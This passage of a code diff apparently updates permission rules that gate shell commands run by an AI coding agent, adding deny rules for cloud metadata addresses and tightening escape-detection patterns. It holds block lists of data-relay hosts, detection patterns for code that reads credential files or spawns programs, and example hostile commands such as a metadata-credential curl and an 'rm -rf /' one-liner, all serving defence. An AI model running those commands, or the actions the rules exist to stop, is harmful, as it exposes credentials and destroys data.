-          deny when command connects within ["pastebin.com", "transfer.sh", "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "ngrok.io", "ngrok-free.app", "ngrok.app", "serveo.net", "localtunnel.me", "burpcollaborator.net", "oastify.com", "oast.fun", "oast.pro", "oast.live", "oast.site", "oast.online", "oast.me", "interact.sh", "0x0.st", "file.io", "termbin.com", "paste.rs", "ix.io", "sprunge.us", "dpaste.org", "hastebin.com", "bashupload.com", "anonfiles.com", "gofile.io", "dnslog.cn", "ceye.io", "requestcatcher.com", "beeceptor.com", "canarytokens.com"] and command matches /paste|transfer|hook|request|pipedream|ngrok|serveo|localtunnel|burp|oast|interact|0x0|file\.io|termbin|ix\.io|sprunge|bin\b|upload|anon|gofile|dnslog|ceye|canary|\w["'\\]+\w|\\[x0-7]/i because "This host exists to pass data on."
-          ask when command runs "ssh" with "-R" and command matches /[^\w-]-[\w"'\\]*R|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens the machine to the network."
+          deny when command connects within ["169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200", "fd00:ec2::254"] and command matches /169|254|2852039166|0x|0?251|a9fe|metadata|100\.100|fd00|\\[xuU0-7]/i because "This asks the machine's provider for its credentials."
+          deny when command connects within ["pastebin.com", "transfer.sh", "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "ngrok.io", "ngrok-free.app", "ngrok.app", "serveo.net", "localtunnel.me", "burpcollaborator.net", "oastify.com", "oast.fun", "oast.pro", "oast.live", "oast.site", "oast.online", "oast.me", "interact.sh", "0x0.st", "file.io", "termbin.com", "paste.rs", "ix.io", "sprunge.us", "dpaste.org", "hastebin.com", "bashupload.com", "anonfiles.com", "gofile.io", "dnslog.cn", "ceye.io", "requestcatcher.com", "beeceptor.com", "canarytokens.com"] and command matches /paste|transfer|hook|request|pipedream|ngrok|serveo|localtunnel|burp|oast|interact|0x0|file\.io|termbin|ix\.io|sprunge|bin\b|upload|anon|gofile|dnslog|ceye|canary|\w["'\\]+\w|\\[xuU0-7]/i because "This host exists to pass data on."
+          ask when command runs "ssh" with "-R" and command matches /[^\w-]-[\w"'\\]*R|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This opens the machine to the network."
           ask when command runs ["frpc", "chisel", "bore"] because "This opens the machine to the network."
           example deny  { command: "curl http://169.254.169.254/latest/meta-data/iam/" }
           example deny  { command: "curl -d hello https://WEBHOOK.site./abc" }
@@ -1729,7 +1734,7 @@ enum EmbeddedPacks {
       // ---- Rules: code of other languages, and options that execute ----
 
       /// What lets Python start programs, write files, reach the network, or hide which of it it does.
-      let harmful_python = /\bos\s*\.\s*(?:popen|exec|spawn|system|remove|unlink|rename|replace|rmdir|chmod|chown|kill|fork|symlink|link|truncate|makedev|mknod|putenv|environ|open|dup|write|startfile|posix|setuid|chdir|fchdir|chroot|sendfile)|from\s+(?:os|shutil|subprocess|posix|nt|pty|socket|ctypes|importlib|builtins|commands|urllib\.request|http\.client)\s+import|\b(?:subprocess|shutil|socket|ctypes|pty|pickle|marshal|runpy|importlib|builtins|paramiko|ftplib|smtplib|telnetlib|asyncio|multiprocessing|commands|posix|signal|code|pip|webbrowser|tempfile\._|sh)\b\s*\.\s*\w|\b(?:requests|httpx|aiohttp|urllib\.request|urllib2|urllib3|http\.client|socketserver|xmlrpc)\b|urlopen|urlretrieve|\b(?:eval|exec|compile|__import__|getattr|setattr|delattr|globals|locals|vars|breakpoint|input_|memoryview)\s*\(|__(?:builtins|class|subclasses|globals|dict|getattribute|mro|bases|base|loader|spec|code|reduce|import)__|\b(?:rmtree|unlink|rmdir|removedirs|write_text|write_bytes|chmod|rename|symlink_to|hardlink_to|touch|mkdir|makedirs|getenv|environ|environb|expanduser|import_module|load_module|Popen|check_output|check_call|getoutput)\b|\bopen\s*\([^)]*,\s*(?:mode\s*=\s*)?[rbf]?["'][^"']*[wax+]|\bopen\s*\(\s*[^)"'\w]*["'](?:\/|~|\.\.|[^"']*(?:\.env|secret|\.ssh|\.aws|\.tract|\.claude|passwd|shadow|id_rsa|credentials))|[\x{FF01}-\x{FF5E}\x{1D400}-\x{1D7FF}]|base64|\\x[0-9a-f]{2}\\x|codecs|\bchr\s*\(.*\bchr\s*\(/i
+      let harmful_python = /\b(?:os|posix|subprocess|shutil|socket|ctypes|pty|importlib|runpy|builtins|paramiko|ftplib|smtplib|asyncio|multiprocessing|signal|webbrowser)\s+as\b|\bos\s*\.\s*(?:popen|exec|spawn|system|remove|unlink|rename|replace|rmdir|chmod|chown|kill|fork|symlink|link|truncate|makedev|mknod|putenv|environ|open|dup|write|startfile|posix|setuid|chdir|fchdir|chroot|sendfile)|from\s+(?:os|shutil|subprocess|posix|nt|pty|socket|ctypes|importlib|builtins|commands|urllib\.request|http\.client)\s+import|\b(?:subprocess|shutil|socket|ctypes|pty|pickle|marshal|runpy|importlib|builtins|paramiko|ftplib|smtplib|telnetlib|asyncio|multiprocessing|commands|posix|signal|code|pip|webbrowser|tempfile\._|sh)\b\s*\.\s*\w|\b(?:requests|httpx|aiohttp|urllib\.request|urllib2|urllib3|http\.client|socketserver|xmlrpc)\b|urlopen|urlretrieve|\b(?:eval|exec|compile|__import__|getattr|setattr|delattr|globals|locals|vars|breakpoint|input_|memoryview)\s*\(|__(?:builtins|class|subclasses|globals|dict|getattribute|mro|bases|base|loader|spec|code|reduce|import)__|\b(?:rmtree|unlink|rmdir|removedirs|write_text|write_bytes|chmod|rename|symlink_to|hardlink_to|touch|mkdir|makedirs|getenv|environ|environb|expanduser|import_module|load_module|Popen|check_output|check_call|getoutput)\b|\bopen\s*\([^)]*,\s*(?:mode\s*=\s*)?[rbf]?["'][^"']*[wax+]|\bopen\s*\(\s*[^)"'\w]*["'](?:\/|~|\.\.|[^"']*(?:\.env|secret|\.ssh|\.aws|\.tract|\.claude|passwd|shadow|id_rsa|credentials))|[\x{FF01}-\x{FF5E}\x{1D400}-\x{1D7FF}]|base64|\\x[0-9a-f]{2}\\x|codecs|\bchr\s*\(.*\bchr\s*\(/i
       /// JavaScript that computes and prints.
       let harmful_javascript = /child_process|\bspawn|\bexec(?:Sync|File)?\b|\bfork\b|rmSync|\brm\b|rmdir|unlink|writeFile|appendFile|createWriteStream|copyFile|rename|truncate|chmod|chown|symlink|mkdir|\beval\b|\bFunction\b|constructor|prototype|__proto__|\bimport\s*\(|process\s*\.\s*(?:binding|kill|dlopen|mainModule|env\s*(?:[),;\]]|$)|\w*[gs]et[ug]id|chdir|abort)|process\s*\[|global(?:This)?\b|\bvm\b|worker_threads|\bnet\b|\bhttps?\b\W*\)|require\s*\(\s*[^'"\s]|\bfetch\s*\(|XMLHttpRequest|WebSocket|dgram|\btls\b|cluster|\bDeno\b|\bBun\b|\\x[0-9a-f]|\\u[0-9a-f{]|\+\s*["'][^"']*["']\s*\]|\]\s*\[|String\.fromCharCode|atob|Buffer\.from|readFileSync\s*\(\s*["'](?:\/|~|\.\.|[^"']*(?:\.env|secret|\.ssh|\.aws))/i
       /// What lets Perl start programs, write or delete files.
@@ -1737,7 +1742,7 @@ enum EmbeddedPacks {
       /// What lets Ruby, PHP, Lua and others start programs, write or delete files, or reach the network.
       let harmful_line = /`|%x|\b(?:system|exec|spawn|popen\w*|fork|eval|instance_eval|send|public_send|__send__|const_get|syscall|passthru|shell_exec|proc_open|assert|create_function|unlink|rmdir|rename|delete|rm_rf?|rm|rmtree|remove|removeItem|write|writeFile|file_put_contents|fopen|open|chmod|chown|copy|move|symlink|mkdir|kill|require\w*|load\w*|dofile|include\w*|import|use|curl_\w+|fsockopen|socket\w*|TCPSocket|Net|URI|URL|FileUtils|IO|File|Dir|Kernel|Process|os|execute|ENV|getenv|base64_decode|pack|run|cmd|Runtime|ProcessBuilder|do shell script|tell application|file\.|unlink|System|Foundation|download\w*)\b|\$_|\$\$|\\x[0-9a-f]|\.\.?\(|<\?/i
       /// Commands of sed that run a program.
-      let harmful_sed = /(?:^|[;{}\n])\s*(?:(?:\d+(?:~\d+)?|\$|\/(?:[^\/\\]|\\.)*\/[IM]*)\s*(?:,\s*(?:[+~]?\d+|\$|\/(?:[^\/\\]|\\.)*\/[IM]*)\s*)?)?!?\s*\{?\s*(?:\d+|\$!?)?\s*(?:e(?:\s|$|[^a-z])|[wW]\s*(?:\/|~|\.\.|[^\s]*\.tract|\.|\$)|e\w+\s*$)|[\/|#,:@!_%+~][gpiImM\d]*e[gpiImM\d]*\s*(?:$|[;}\n])|[\/|#,:@!_%+~][gpiImM\d]*w\s*(?:\/|~|\.)/
+      let harmful_sed = /(?:^|[;{}\n])\s*(?:\d+|\$)(?:,(?:\d+|\$))?\s*!?\s*e|(?:^|[;{}\n])\s*(?:(?:\d+(?:~\d+)?|\$|\/(?:[^\/\\]|\\.)*\/[IM]*)\s*(?:,\s*(?:[+~]?\d+|\$|\/(?:[^\/\\]|\\.)*\/[IM]*)\s*)?)?!?\s*\{?\s*(?:\d+|\$!?)?\s*(?:e(?:\s|$|[^a-z])|[wW]\s*(?:\/|~|\.\.|[^\s]*\.tract|\.|\$)|e\w+\s*$)|[\/|#,:@!_%+~][gpiImM\d]*e[gpiImM\d]*\s*(?:$|[;}\n])|[\/|#,:@!_%+~][gpiImM\d]*w\s*(?:\/|~|\.)/
       /// What lets awk run a program, or write outside the project.
       let harmful_awk = /\bsystem\s*\(|"[^"]*"\s*\|\s*&?\s*getline|\|\s*&|@(?:load|include)|print(?:[^;}\n">|]|"(?:[^"\\]|\\.)*"|\|\|)*(?:\|\s*[^|\s]|>>?\s*(?:"(?:\/|~|\.\.|\.)|[A-Za-z$]|\(\s*(?:"[\/~.]|[A-Za-z$])))|\$\w+\s*\|\s*getline|@\w+\s*\(|ENVIRON/
       /// Commands of an editor that do more than search, replace, save and leave.
@@ -1750,13 +1755,15 @@ enum EmbeddedPacks {
           ask when any c in command satisfies (c runs "deno eval" and c executes matches harmful_javascript) because "This JavaScript starts programs, changes files or reaches the network."
           ask when command runs "deno eval" operand matches harmful_javascript because "This JavaScript starts programs, changes files or reaches the network."
           ask when any c in command satisfies (c runs "perl" with ["-e", "-E"] and c executes matches harmful_perl) and command matches /-\w*[eE]/ because "This Perl code starts programs or changes files."
-          ask when command runs "perl" with "-M" and command matches /[^\w-]-[\w"'\\]*M|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This Perl code loads other code."
+          ask when command runs "perl" with "-M" and command matches /[^\w-]-[\w"'\\]*M|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This Perl code loads other code."
           ask when any c in command satisfies (c runs ["ruby", "irb", "jruby", "php", "lua", "luajit", "R", "Rscript", "julia", "guile", "osascript", "tclsh", "scala", "elixir", "racket", "sbcl", "ghci", "groovy", "kotlin", "octave", "swipl", "erl", "swift"] with ["-e", "-r", "--eval", "-eval", "-E"] and c executes matches harmful_line) because "This code starts programs or changes files."
-          ask when command runs "ruby" with "-r" and command matches /-r\s*(?:fileutils|socket|open|net|drb|\.|\/)/ and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This Ruby code loads other code."
+          ask when command runs "ruby" with "-r" and command matches /-r\s*(?:fileutils|socket|open|net|drb|\.|\/)/ and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This Ruby code loads other code."
           ask when any c in command satisfies (c runs ["tclsh", "expect", "osascript"] and c executes matches /\b(?:exec|spawn|open|socket|do shell script|send)\b/) because "This code starts programs."
-          ask when any c in command satisfies (c runs ["sed", "gsed"] and c executes matches harmful_sed) and command matches /\bg?sed\b.*(?:sed\s+(?:-\w+\s+)*["']?\$\w+["']?(?:\s|$)|[\/|#,:@!_%+~][gpiIM\d]*[ew]|[;{}'"\s\d$\/]\s*!?[ewW](?:\s|["'\/]|\w+["']?\s)|\\[x0-7]|\$')/s because "This sed script runs programs or writes files."
-          ask when any c in command satisfies (c runs ["awk", "gawk", "mawk", "nawk"] and c executes matches harmful_awk) and command matches /system|getline|\||>|@|ENVIRON|awk\s+(?:-\S+\s+)*["']?\$\w|\\[x0-7]/ because "This awk program runs programs or writes files."
-          ask when command runs ["gawk", "awk"] with ["-l", "--load"] and command matches /[^\w-]-[\w"'\\]*l|--["'\\]*lo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This awk program loads others."
+          ask when any c in command satisfies (c runs ["sed", "gsed"] and c executes matches harmful_sed) and command matches /\bg?sed\b.*(?:sed\s+(?:-\w+\s+)*["']?\$\w+["']?(?:\s|$)|[\/|#,:@!_%+~][gpiIM\d]*[ew]|[;{}'"\s\d$\/]\s*!?[ewW](?:\s|["'\/]|\w+["']?\s)|\\[xuU0-7]|\$')/s because "This sed script runs programs or writes files."
+          ask when any c in command satisfies (c runs ["ed", "red", "ex", "gdb", "lldb"] and c executes matches /!|\b(?:shell|system|python|platform)\b/) because "This makes an editor or a debugger run programs."
+          ask when command runs "parallel" and command matches /\bparallel\s+(?:-\S+\s+(?:\d+\s+)?)*:::/ because "What stands behind `:::` is run as command lines."
+          ask when any c in command satisfies (c runs ["awk", "gawk", "mawk", "nawk"] and c executes matches harmful_awk) and command matches /system|getline|\||>|@|ENVIRON|awk\s+(?:-\S+\s+)*["']?\$\w|\\[xuU0-7]/ because "This awk program runs programs or writes files."
+          ask when command runs ["gawk", "awk"] with ["-l", "--load"] and command matches /[^\w-]-[\w"'\\]*l|--["'\\]*lo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This awk program loads others."
           ask when any c in command satisfies (c runs vims with ["-c", "--cmd"] and c executes not matches harmless_vim) and command matches /-\w*c|--cm/ because "This runs commands of the editor."
           offer "Put the code into a file of the project and run that."
           example ask   { command: "python3 -c 'import os; os.system(\"rm -rf /\")'" }
@@ -1776,25 +1783,25 @@ enum EmbeddedPacks {
 
       sealed rule executing_option "An option that runs a program runs a program" {
           on bash
-          ask when command runs tars with ["--checkpoint-action", "--to-command", "--rsh-command", "-F", "--info-script", "--new-volume-script"] and command matches /[^\w-]-[\w"'\\]*F|--["'\\]*ch|--["'\\]*in|--["'\\]*ne|--["'\\]*rs|--["'\\]*to|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of tar runs a program."
+          ask when command runs tars with ["--checkpoint-action", "--to-command", "--rsh-command", "-F", "--info-script", "--new-volume-script"] and command matches /[^\w-]-[\w"'\\]*F|--["'\\]*ch|--["'\\]*in|--["'\\]*ne|--["'\\]*rs|--["'\\]*to|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of tar runs a program."
           deny when any c in command satisfies (c runs tars with ["-x", "--extract", "--get"] and c reads in ["/", "/etc", "/usr", "/bin", "/lib", "/boot", "/root", "/var"]) and spells_the_machine because "This unpacks over the machine's own files."
-          ask when command runs tars with ["-P", "--absolute-names"] and command matches /[^\w-]-[\w"'\\]*P|--["'\\]*ab|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This unpacks wherever the archive says."
+          ask when command runs tars with ["-P", "--absolute-names"] and command matches /[^\w-]-[\w"'\\]*P|--["'\\]*ab|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This unpacks wherever the archive says."
           deny when any c in command satisfies (c runs tars with ["-c", "--create", "-r", "--append", "-u", "--update"] and c reads in ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group"]) and spells_the_machine because "This changes files of the machine."
           ask when any c in command satisfies (c runs ["ssh", "scp", "sftp", "autossh", "slogin"] with ["-o", "-F", "-S", "-D"] and c executes) because "This option of ssh runs a program."
           ask when command runs ["ssh", "scp", "sftp", "rsync", "git", "autossh"] and command matches /(?:proxy|local|knownhosts)command/i because "This option of ssh runs a program."
-          ask when command runs ["scp", "sftp"] with "-S" and command matches /[^\w-]-[\w"'\\]*S|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of ssh runs a program."
-          ask when command runs "sftp" with "-D" and command matches /[^\w-]-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of ssh runs a program."
-          ask when command runs "zip" with ["--unzip-command"] and command matches /--["'\\]*un|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of zip runs a program."
+          ask when command runs ["scp", "sftp"] with "-S" and command matches /[^\w-]-[\w"'\\]*S|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of ssh runs a program."
+          ask when command runs "sftp" with "-D" and command matches /[^\w-]-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of ssh runs a program."
+          ask when command runs "zip" with ["--unzip-command"] and command matches /--["'\\]*un|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of zip runs a program."
           ask when command runs "zip" with "-T" and command matches /-TT/ because "This option of zip runs a program."
-          ask when command runs "rg" with ["--pre", "--hostname-bin"] and command matches /--["'\\]*ho|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of rg runs a program."
-          ask when command runs "sort" with "--compress-program" and command matches /--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of sort runs a program."
-          ask when command runs "split" with "--filter" and command matches /--["'\\]*fi|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of split runs a program."
-          ask when command runs "man" with ["-P", "--pager", "-H", "--html"] and command matches /[^\w-]-[\w"'\\]*[HP]|--["'\\]*ht|--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of man runs a program."
+          ask when command runs "rg" with ["--pre", "--hostname-bin"] and command matches /--["'\\]*ho|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of rg runs a program."
+          ask when command runs "sort" with "--compress-program" and command matches /--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of sort runs a program."
+          ask when command runs "split" with "--filter" and command matches /--["'\\]*fi|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of split runs a program."
+          ask when command runs "man" with ["-P", "--pager", "-H", "--html"] and command matches /[^\w-]-[\w"'\\]*[HP]|--["'\\]*ht|--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of man runs a program."
           ask when command runs ["less", "more", "vim", "vi", "nvim", "view", "ex", "ed"] operand matches /^\+.*!/ and command matches /\+[^;&]*!/ because "This runs a program from the pager or editor."
-          ask when command runs vims with "-S" and command matches /[^\w-]-[\w"'\\]*[Su]|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a file of the editor's commands."
-          ask when command runs ["emacs", "emacsclient"] with ["--eval", "-eval", "-f", "--funcall", "-l", "--load", "--script"] and command matches /[^\w-]-[\w"'\\]*[fl]|--["'\\]*ev|--["'\\]*fu|--["'\\]*lo|--["'\\]*sc|-eval|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs code of the editor."
-          ask when command runs "wget" with ["--use-askpass", "-e", "--execute"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ex|--["'\\]*us|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of wget runs a program or changes its settings."
-          ask when command runs "curl" with ["-K", "--config"] and command matches /[^\w-]-[\w"'\\]*K|--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This reads more options from a file."
+          ask when command runs vims with "-S" and command matches /[^\w-]-[\w"'\\]*[Su]|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a file of the editor's commands."
+          ask when command runs ["emacs", "emacsclient"] with ["--eval", "-eval", "-f", "--funcall", "-l", "--load", "--script"] and command matches /[^\w-]-[\w"'\\]*[fl]|--["'\\]*ev|--["'\\]*fu|--["'\\]*lo|--["'\\]*sc|-eval|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs code of the editor."
+          ask when command runs "wget" with ["--use-askpass", "-e", "--execute"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ex|--["'\\]*us|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of wget runs a program or changes its settings."
+          ask when command runs "curl" with ["-K", "--config"] and command matches /[^\w-]-[\w"'\\]*K|--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This reads more options from a file."
           ask when any c in command satisfies (c runs ["gdb", "lldb"] and c executes matches /\b(?:shell|python|py|pipe|make|source|call|system|guile|platform|script|command|define)\b|!|\|/) because "This runs a program from the debugger."
           ask when command runs ["fzf", "sk"] with ["--preview", "--bind"] and command matches /execute|become|reload|--preview/ because "This option of fzf runs a program."
           ask when command runs "fc" with ["-s", "-e"] because "This runs an earlier command again."
@@ -1803,24 +1810,24 @@ enum EmbeddedPacks {
           ask when command runs tars operand matches /^x[a-zA-Z]{0,7}$/ and command matches /(?:-C|--dir\w*|--cd)[\s=]*["']?(?:\/(?:\s|$|["']|etc|usr|bin|lib|boot|root|var|sbin|\.)|(?:\.\/)?rules\b|\.claude)/ because "This unpacks over other files."
           ask when command runs tars with ["-x", "--extract", "--get"] and command matches /(?:-C|--dir\w*|--cd)[\s=]*["']?(?:\/(?:\s|$|["']|etc|usr|bin|lib|boot|root|var|sbin|\.)|(?:\.\/)?rules\b|\.claude)/ because "This unpacks over other files."
           ask when command runs tars and command matches /tar\s+-?\w*f\s*["']?\/(?:etc|usr|bin|lib|boot|root|dev\/[^n])/ because "This writes over the machine's files."
-          ask when command runs "bind" with "-x" and command matches /[^\w-]-[\w"'\\]*x|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a command on a key."
-          ask when command runs "enable" with "-f" and command matches /[^\w-]-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This loads code into the shell."
-          ask when command runs "hash" with "-p" and command matches /[^\w-]-[\w"'\\]*p|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes which program a name means."
-          ask when command runs ["complete", "compgen"] with "-C" and command matches /[^\w-]-[\w"'\\]*C|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a command on completion."
-          ask when command runs "rsync" with "--rsync-path" and command matches /--["'\\]*rs|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of rsync runs a program."
-          ask when command runs "make" with ["--eval", "-E"] and command matches /[^\w-]-[\w"'\\]*E|--["'\\]*ev|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs recipes that are written on the command line."
+          ask when command runs "bind" with "-x" and command matches /[^\w-]-[\w"'\\]*x|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a command on a key."
+          ask when command runs "enable" with "-f" and command matches /[^\w-]-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This loads code into the shell."
+          ask when command runs "hash" with "-p" and command matches /[^\w-]-[\w"'\\]*p|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes which program a name means."
+          ask when command runs ["complete", "compgen"] with "-C" and command matches /[^\w-]-[\w"'\\]*C|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a command on completion."
+          ask when command runs "rsync" with "--rsync-path" and command matches /--["'\\]*rs|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of rsync runs a program."
+          ask when command runs "make" with ["--eval", "-E"] and command matches /[^\w-]-[\w"'\\]*E|--["'\\]*ev|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs recipes that are written on the command line."
           ask when any c in command satisfies (c runs ["make", "gmake"] with ["-f", "--file", "--makefile"] and c executes matches /^(?:-|\/dev\/stdin|\/dev\/fd\/.*)$/) and command matches /-f|--fi|--mak/ because "This runs recipes from standard input."
           ask when command runs ["make", "gmake"] operand matches /^(?:SHELL|MAKEFLAGS|\.SHELLFLAGS)\s*[:+?]?=.*[\s;|&]/ and command matches /SHELL|MAKEFLAGS/ because "This changes what make runs."
-          ask when command runs ["mysql", "mariadb"] with "--pager" and command matches /--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of mysql runs a program."
-          ask when command runs ["find", "gfind"] with ["-ok", "-okdir"] and command matches /-ok|-okdir|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a program for every file."
-          ask when command runs "go" with ["-exec", "-toolexec", "-vettool"] and command matches /-exec|-toolexec|-vettool|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of go runs a program."
-          ask when command runs ["gcc", "g++", "cc", "clang", "c++", "clang++"] with ["-wrapper", "-fplugin"] and command matches /-fplugin|-wrapper|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of the compiler runs a program."
+          ask when command runs ["mysql", "mariadb"] with "--pager" and command matches /--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of mysql runs a program."
+          ask when command runs ["find", "gfind"] with ["-ok", "-okdir"] and command matches /-ok|-okdir|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a program for every file."
+          ask when command runs "go" with ["-exec", "-toolexec", "-vettool"] and command matches /-exec|-toolexec|-vettool|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of go runs a program."
+          ask when command runs ["gcc", "g++", "cc", "clang", "c++", "clang++"] with ["-wrapper", "-fplugin"] and command matches /-fplugin|-wrapper|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of the compiler runs a program."
           ask when command runs "cargo" with "--config" and command matches /wrapper|runner|linker|rustc\b|credential/ because "This setting makes cargo run a program."
-          ask when command runs "helm" with "--post-renderer" and command matches /--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of helm runs a program."
-          ask when command runs "tmux" with "-f" and command matches /[^\w-]-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a file of commands."
+          ask when command runs "helm" with "--post-renderer" and command matches /--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of helm runs a program."
+          ask when command runs "tmux" with "-f" and command matches /[^\w-]-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a file of commands."
           ask when command runs ["ld.so", "ld-linux.so.2", "ld-linux-x86-64.so.2"] because "This loads code into a program."
-          ask when command runs "openssl" with ["-engine", "-provider", "-provider-path"] and command matches /-engine|-provider|-provider-path|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This loads code into a program."
-          ask when command runs ["npm", "pnpm", "yarn"] with ["--script-shell", "--scripts-prepend-node-path"] and command matches /--["'\\]*sc|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes what scripts run with."
+          ask when command runs "openssl" with ["-engine", "-provider", "-provider-path"] and command matches /-engine|-provider|-provider-path|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This loads code into a program."
+          ask when command runs ["npm", "pnpm", "yarn"] with ["--script-shell", "--scripts-prepend-node-path"] and command matches /--["'\\]*sc|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes what scripts run with."
           ask when command runs "cmake" with "-E" and command matches /-E\s*['"]?(?:rm|remove|remove_directory|rename|copy|copy_directory|create_symlink|env|time|chdir|touch|tar)\b[^;&|]*\s['"]?(?:\/|~|\.\.|\$)/ because "This changes files of the machine."
           ask when command runs ["patch"] operand matches /^\/(?:etc|usr|bin|lib|boot|root|var)/ and command matches /\/(?:etc|usr|bin|lib|boot|root|var)/ because "This changes files of the machine."
           deny when command runs "patch" with ["-d", "--directory"] and command matches /(?:-d|--directory)[=\s]*["']?\/(?:["'\s]|$|etc|usr|bin|lib|boot|root|var)/ because "This changes files of the machine."
@@ -1835,6 +1842,8 @@ enum EmbeddedPacks {
           on bash
           ask when command sets like ["LD_*", "DYLD_*", "BASH_ENV", "ENV", "PROMPT_COMMAND", "PS4", "SHELLOPTS", "BASHOPTS", "ZDOTDIR", "FPATH", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_CONFIG*", "GIT_PROXY_COMMAND", "GIT_EXEC_PATH", "GIT_TEMPLATE_DIR", "GIT_ASKPASS", "GIT_DIR", "GIT_WORK_TREE", "GIT_ALLOW_PROTOCOL", "SSH_ASKPASS", "SUDO_ASKPASS", "PYTHONSTARTUP", "PYTHONHOME", "PYTHONINSPECT", "PERL5OPT", "PERL5LIB", "PERL5DB", "RUBYLIB", "LESSOPEN", "LESSCLOSE", "RSYNC_RSH", "CVS_RSH", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "HISTFILE", "HISTCONTROL", "CDPATH", "BASH_FUNC_*", "LUA_INIT*", "PHPRC", "PHP_INI_SCAN_DIR", "R_PROFILE*", "GCONV_PATH", "GLIBC_TUNABLES", "MALLOC_*", "PSQLRC", "MYSQL_HOME", "OPENSSL_CONF", "OPENSSL_ENGINES", "KUBECTL_EXTERNAL_DIFF", "FZF_DEFAULT_COMMAND", "FZF_DEFAULT_OPTS", "RUSTC_WRAPPER", "RUSTC_WORKSPACE_WRAPPER", "CARGO_TARGET_*_RUNNER", "CARGO_BUILD_RUSTC*", "NODE_REPL_EXTERNAL_MODULE", 